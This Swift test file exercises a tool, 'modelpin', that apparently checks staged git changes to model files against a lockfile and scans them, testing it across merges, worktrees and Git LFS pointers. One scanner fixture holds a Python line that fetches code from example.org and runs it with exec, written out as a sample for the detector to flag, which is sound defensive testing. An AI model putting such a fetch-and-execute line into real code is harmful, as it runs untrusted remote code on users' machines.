import Foundation
import TestSupport
import Testing

/// `modelpin hook` in real git repositories.
struct HookTests {
  /// A committed model at `path`, with odd names in it.
  private func committed(_ path: String = "models/my model") throws -> GitModel {
    let model = try GitModel()
    let folder = model.folder
    try folder.write("weights", to: "\(path)/weights.bin")
    try folder.write("print(1)\n", to: "\(path)/run it.py", isExecutable: true)
    try folder.write("ü", to: "\(path)/sub/Größe\"'.txt")
    try folder.link("\(path)/latest", to: "weights.bin")
    try folder.write("elsewhere", to: "README.md")
    try model.lock(path)
    try model.git("add", "-A")
    try model.git("commit", "-q", "-m", "first")
    return model
  }

  private func expect(
    _ model: GitModel, _ status: Int32, _ words: String..., in folder: String = "",
    sourceLocation: SourceLocation = #_sourceLocation
  ) throws {
    let run = try model.hook(in: folder)
    #expect(run.status == status, "\(run.output)\(run.errors)", sourceLocation: sourceLocation)
    for word in words {
      #expect(
        (run.output + run.errors).contains(word), "\(run.output)\(run.errors)",
        sourceLocation: sourceLocation)
    }
  }

  @Test func `nothing staged holds, in every folder`() throws {
    let model = try committed()
    try expect(model, 0, "nothing staged touches the model")
    try expect(model, 0, in: "models/my model/sub")
    // Neither does what is only in the working tree, nor what lies outside of models.
    try model.folder.write("changed", to: "models/my model/weights.bin")
    try model.folder.write("changed", to: "README.md")
    try model.git("add", "README.md")
    try expect(model, 0, "nothing staged touches the model")
  }

  @Test(arguments: [
    ("changed  weights.bin", "change"), ("extra    evil.py", "add"),
    ("missing  sub/Größe\"'.txt", "delete"),
    ("mode     run it.py  (is no longer executable)", "mode"),
    ("link     latest", "link"), ("type     weights.bin", "type"),
    ("renamed  moved.py", "rename"), ("extra    modelpin.lock.txt", "name"),
  ])
  func `what is staged and not locked is named`(line: String, action: String) throws {
    let model = try committed()
    let folder = model.folder
    let path = "models/my model"
    switch action {
    case "change": try folder.write("Weights", to: "\(path)/weights.bin")
    case "add": try folder.write("", to: "\(path)/evil.py")
    case "delete": try folder.remove("\(path)/sub/Größe\"'.txt")
    case "mode": try folder.write("print(1)\n", to: "\(path)/run it.py")
    case "link":
      try folder.remove("\(path)/latest")
      try folder.link("\(path)/latest", to: "run it.py")
    case "type":
      try folder.remove("\(path)/weights.bin")
      try folder.link("\(path)/weights.bin", to: "run it.py")
    case "rename":
      // Not what the link leads to: that would be said besides.
      try folder.move("\(path)/run it.py", to: "\(path)/moved.py")
    default: try folder.write("", to: "\(path)/modelpin.lock.txt")
    }
    try model.git("add", "-A")
    try expect(
      model, 1, "models/my model: does not agree with models/my model/modelpin.lock", line,
      "hint: review the change")
    try expect(model, 1, line, in: path)
    // Locked and staged together it holds.
    try model.lock(path)
    try expect(model, 1)
    try model.git("add", "-A")
    try expect(model, 0, "agrees with", "the lockfile changes")
    try model.git("commit", "-q", "-m", "second")
    try expect(model, 0, "nothing staged")
  }

  @Test func `a part that is staged counts, not the working tree`() throws {
    let model = try committed()
    try model.folder.write("bad", to: "models/my model/weights.bin")
    try model.git("add", "-A")
    try model.folder.write("weights", to: "models/my model/weights.bin")
    try expect(model, 1, "changed  weights.bin")
    try model.git("add", "-A")
    try expect(model, 0)
  }

  @Test func `a lockfile that says something else needs its content staged`() throws {
    let model = try committed()
    let path = "models/my model"
    try model.folder.write("new", to: "\(path)/weights.bin")
    try model.lock(path)
    try model.git("add", "\(path)/modelpin.lock")
    try expect(model, 1, "changed  weights.bin")
    try model.git("add", "-A")
    try expect(model, 0, "the lockfile changes")
  }

  @Test func `an entry dropped from the lockfile while it stays is named`() throws {
    let model = try committed()
    let path = "models/my model"
    let bytes = try model.folder.bytes("\(path)/run it.py")
    try model.folder.remove("\(path)/run it.py")
    try model.lock(path)
    try model.folder.write(bytes, to: "\(path)/run it.py", isExecutable: true)
    try model.git("add", "-A")
    try expect(model, 1, "extra    run it.py")
    // Unless a pattern says so, which the lockfile's difference shows.
    try model.lock(path, exclude: ["run it.py"])
    try model.git("add", "-A")
    try expect(model, 0)
  }

  @Test func `a link that leads to no entry is named until it is accepted`() throws {
    let model = try committed()
    let path = "models/my model"
    try model.folder.link("\(path)/out", to: "../../README.md")
    try model.lock(path)
    try model.git("add", "-A")
    try expect(model, 1, "unproven out  (link to ../../README.md")
    let run = try BuiltProgram.run(
      ["verify", path, "--format", "json"], in: model.folder.path,
      environment: GitModel.environment)
    let fingerprint = try #require(
      run.output.split(separator: "\n").first { $0.contains("\"fingerprint\"") }?
        .split(separator: "\"").dropFirst(3).first)
    try model.folder.write(
      """
      [[accept]]
      fingerprint = "\(fingerprint)"
      rule = "repository/dangling-link"
      path = "out"
      reason = "mounted by us"
      expires = 2099-01-01
      """, to: "modelpin.toml")
    try #expect(model.hook("verify", "--config", "modelpin.toml").status == 0)
    // A link that is not staged leads to nothing once its target is gone.
    try model.folder.remove("\(path)/out")
    try model.lock(path)
    try model.git("add", "-A")
    try expect(model, 0)
    try model.git("commit", "-q", "-m", "second")
    try model.folder.remove("\(path)/weights.bin")
    try model.lock(path)
    try model.git("add", "-A")
    try expect(model, 1, "unproven latest")
  }

  @Test func `deleting the lockfile alone is refused, with the model it is not`() throws {
    let model = try committed()
    try model.git("rm", "-q", "--cached", "models/my model/modelpin.lock")
    try expect(model, 1, "the lockfile is deleted while files of its tree stay")
    try model.git("rm", "-q", "-r", "--cached", "models")
    try expect(model, 0)
  }

  @Test func `before the first commit everything is looked at`() throws {
    let model = try GitModel()
    try model.folder.write("a", to: "a.bin")
    try model.lock()
    try model.git("add", "-A")
    try expect(model, 0, ".: agrees with modelpin.lock (1 entry looked at)", "the lockfile is new")
    try model.folder.write("b", to: "b.bin")
    try model.git("add", "-A")
    try expect(model, 1, "extra    b.bin")
  }

  @Test func `several models are judged one by one, and each claims all below it`() throws {
    let model = try GitModel()
    for name in ["one", "two", "two/inner"] {
      try model.folder.write(name, to: "\(name)/w.bin")
    }
    try model.lock("one")
    try model.lock("two/inner")
    // The inner lockfile is content to the outer one; the helper leaves it out.
    try model.folder.move("two/inner/modelpin.lock", to: "inner.lock")
    try model.lock("two", exclude: [])
    try model.git("add", "-A")
    try model.git("commit", "-q", "-m", "first")
    try model.folder.write("changed", to: "two/inner/w.bin")
    try model.git("add", "-A")
    try expect(model, 1, "two: does not agree", "changed  inner/w.bin")
    let run = try model.hook()
    #expect(!run.output.contains("one:"))
  }

  @Test func `a Git LFS pointer stands for the content it names`() throws {
    let model = try GitModel()
    try model.folder.write("the real weights", to: "m/w.safetensors")
    try model.lock("m")
    let digest = try Subprocess.run(["sha256sum", model.folder.path("m/w.safetensors")])
      .output.prefix(64)
    func pointer(_ digest: some StringProtocol, _ size: Int) -> String {
      "version https://git-lfs.github.com/spec/v1\noid sha256:\(digest)\nsize \(size)\n"
    }
    try model.folder.write(pointer(digest, 16), to: "m/w.safetensors")
    try model.git("add", "-A")
    try expect(model, 0, "agrees")
    try model.folder.write(pointer(digest, 17), to: "m/w.safetensors")
    try model.git("add", "-A")
    try expect(model, 1, "changed  w.safetensors")
    try model.folder.write(
      pointer(String(repeating: "0", count: 64), 16), to: "m/w.safetensors")
    try model.git("add", "-A")
    try expect(model, 1, "changed  w.safetensors")
    // Where the pointer itself was locked, it is content.
    try model.lock("m")
    try model.git("add", "-A")
    try expect(model, 0)
  }

  @Test func `models of the configuration replace those found, and may have a pin`() throws {
    let model = try committed()
    try model.folder.write(
      """
      [[model]]
      path = "models/my model"
      pin = "sha256:\(String(repeating: "0", count: 64))"
      """, to: "modelpin.toml")
    try model.folder.write("changed", to: "models/my model/weights.bin")
    try model.lock("models/my model")
    try model.git("add", "-A")
    let refused = try model.hook("--config", "modelpin.toml")
    #expect(refused.status == 1)
    #expect(refused.output.contains("pin      expected  sha256:000"))
    // Another copy of the lockfile, outside the tree.
    try model.folder.move("models/my model/modelpin.lock", to: "locks/my.lock")
    try model.folder.write(
      """
      [[model]]
      path = "models/my model"
      lockfile = "locks/my.lock"
      """, to: "modelpin.toml")
    try model.git("add", "-A")
    let held = try model.hook("--config", "modelpin.toml")
    #expect(held.status == 0, "\(held.output)\(held.errors)")
    let below = try model.hook("--config", "../modelpin.toml", in: "models")
    #expect(below.status == 2, "the configuration's paths are relative to the working directory")
  }

  @Test func `a submodule in a model is said to be unknown`() throws {
    let model = try committed()
    let commit = try model.git("rev-parse", "HEAD").prefix(40)
    try model.git(
      "update-index", "--add", "--cacheinfo", "160000,\(commit),models/my model/module")
    try expect(model, 1, "unknown  module  (a submodule")
  }

  @Test func `a damaged lockfile is status 2, whatever else is staged`() throws {
    let model = try committed()
    try model.folder.write("<<<<<<< ours\n{}\n", to: "models/my model/modelpin.lock")
    try model.git("add", "-A")
    try expect(model, 2, "error: models/my model/modelpin.lock:1:")
  }

  @Test func `a merge is judged by what it brings, a conflict is status 3`() throws {
    let model = try committed()
    let path = "models/my model"
    try model.git("checkout", "-q", "-b", "other")
    try model.folder.write("theirs", to: "\(path)/weights.bin")
    try model.lock(path)
    try model.git("commit", "-q", "-a", "-m", "theirs")
    try model.git("checkout", "-q", "main")
    try model.folder.write("more", to: "README.md")
    try model.git("commit", "-q", "-a", "-m", "ours")
    try model.git("merge", "-q", "--no-commit", "--no-ff", "other")
    try expect(model, 0, "the lockfile changes")
    try model.folder.write("tampered", to: "\(path)/weights.bin")
    try model.git("add", "-A")
    try expect(model, 1, "changed  weights.bin")
    try model.git("merge", "--abort")

    try model.folder.write("mine", to: "\(path)/weights.bin")
    try model.git("commit", "-q", "-a", "-m", "mine")
    #expect(throws: GitModel.GitFailure.self) { try model.git("merge", "-q", "other") }
    try expect(model, 3, "error: models/my model/weights.bin has a merge conflict")
  }

  @Test func `it works in another working tree and inside git's own hook`() throws {
    let model = try committed()
    try model.git("branch", "other")
    try model.git("worktree", "add", "-q", "second tree", "other")
    try model.folder.write("bad", to: "second tree/models/my model/weights.bin")
    try model.git("add", "-A", in: "second tree")
    try expect(model, 1, "changed  weights.bin", in: "second tree/models")
    try model.folder.write(
      "#!/bin/sh\nexec '\(BuiltProgram.path)' hook\n", to: ".git/hooks/pre-commit",
      isExecutable: true)
    #expect(throws: GitModel.GitFailure.self) {
      try model.git("commit", "-q", "-m", "bad", in: "second tree")
    }
    // `commit -a` hands the hook an index of its own.
    try model.folder.write("bad", to: "models/my model/weights.bin")
    #expect(throws: GitModel.GitFailure.self) { try model.git("commit", "-q", "-a", "-m", "bad") }
    try model.lock("models/my model")
    try model.git("commit", "-q", "-a", "-m", "good")
  }

  @Test func `a large file is streamed`() throws {
    let model = try GitModel()
    try model.folder.write([UInt8](repeating: 7, count: 5 << 20), to: "m/w.bin")
    try model.lock("m")
    try model.git("add", "-A")
    try expect(model, 0)
    try model.folder.write([UInt8](repeating: 8, count: 5 << 20), to: "m/w.bin")
    try model.git("add", "-A")
    try expect(model, 1, "changed  w.bin")
  }

  @Test func `outside a repository it says so`() throws {
    let folder = try TemporaryFolder()
    let run = try BuiltProgram.run(
      ["hook"], in: folder.path,
      environment: GitModel.environment.merging(["GIT_CEILING_DIRECTORIES": "/"]) { $1 })
    #expect(run.status == 3)
    #expect(run.errors.contains("error: git rev-parse: "))
  }
}

/// `modelpin hook scan`.
struct HookScanTests {
  private static let fetch = """
    import urllib.request
    exec(urllib.request.urlopen("https://example.org/setup.py").read())

    """

  @Test func `what is staged is scanned, and only that is reported`() throws {
    let model = try GitModel()
    try model.folder.write(Self.fetch, to: "m/old.py")
    try model.folder.write("weights", to: "m/w.bin")
    try model.lock("m")
    try model.git("add", "-A")
    try model.git("commit", "-q", "-m", "first")
    let nothing = try model.hook("scan")
    #expect(nothing.status == 0 && nothing.output == "nothing is staged\n")

    try model.folder.write("print(1)\n", to: "m/fine.py")
    try model.git("add", "-A")
    let clean = try model.hook("scan")
    #expect(clean.status == 0, "\(clean.output)\(clean.errors)")
    #expect(!clean.output.contains("old.py"))

    try model.folder.write(
      Self.fetch, to: "m/a very \(String(repeating: "long ", count: 30))name.py")
    try model.git("add", "-A")
    // The working tree does not count.
    try model.folder.write("", to: "m/a very \(String(repeating: "long ", count: 30))name.py")
    let found = try model.hook("scan")
    #expect(found.status == 1, "\(found.output)\(found.errors)")
    #expect(found.output.contains("name.py\n"))
    #expect(!found.output.contains("old.py"))
  }

  @Test func `the severity that decides can be given`() throws {
    let model = try GitModel()
    try model.folder.write("requests\n", to: "requirements.txt")
    try model.git("add", "-A")
    #expect(try model.hook("scan").status == 0)
    #expect(try model.hook("scan", "--fail-on", "low").status == 1)
    #expect(try model.hook("--fail-on", "low").status == 2)
  }

  @Test func `a staged pointer of Git LFS is no missing weight`() throws {
    let model = try GitModel()
    try model.folder.write("real", to: "w.safetensors")
    try model.lock()
    try model.folder.write(
      """
      version https://git-lfs.github.com/spec/v1
      oid sha256:\(String(repeating: "1", count: 64))
      size 4

      """, to: "w.safetensors")
    try model.git("add", "-A")
    let run = try model.hook("scan")
    #expect(run.status == 0, "\(run.output)\(run.errors)")
  }
}
